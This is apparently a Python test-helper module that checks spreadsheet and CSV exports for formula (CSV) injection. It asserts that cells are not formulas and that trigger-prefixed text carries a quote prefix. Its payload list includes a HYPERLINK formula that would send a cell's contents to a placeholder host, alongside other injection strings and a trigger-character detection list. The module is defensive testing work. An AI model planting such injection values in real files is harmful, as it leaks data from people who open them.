"""Checks shared by the export tests: does a file carry anything a spreadsheet would run?"""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

# OWASP's CSV-injection characters, each in a payload a user or an extract could supply.
PAYLOADS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x/?"&A1,"click")',
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")  # XML reads a stored "\r" back as "\n"


def _same(text: str) -> str:
    return text.replace("\r", "\n")


def workbook_text_cells(data: bytes) -> list[str]:
    """Every text cell of every sheet, after checking no cell is a formula or runnable text.

    A cell is unsafe when it is a formula, or when its text starts like a formula without
    Excel's quote prefix (which keeps it text when someone edits the cell).
    """
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, (
                            f"{sheet.title}!{cell.coordinate} {cell.value!r} is not marked as text"
                        )
    return texts


def payloads_found(texts: list[str], payloads=PAYLOADS) -> set[str]:
    """The payloads that reached the file, at the start of a cell (where they would run)."""
    return {p for p in payloads if any(_same(t).startswith(_same(p)) for t in texts)}


def csv_fields(text: str) -> list[str]:
    """Every field of a CSV file, after checking no text field starts like a formula.

    Numbers such as -2 stay numbers: a spreadsheet reads them as the number, nothing runs.
    """
    fields = [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
    for field in fields:
        if not _is_number(field):
            assert not field.startswith(TRIGGERS), f"CSV field {field!r} would run as a formula"
    return fields


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in {"nan", "inf", "-inf", "+inf"}
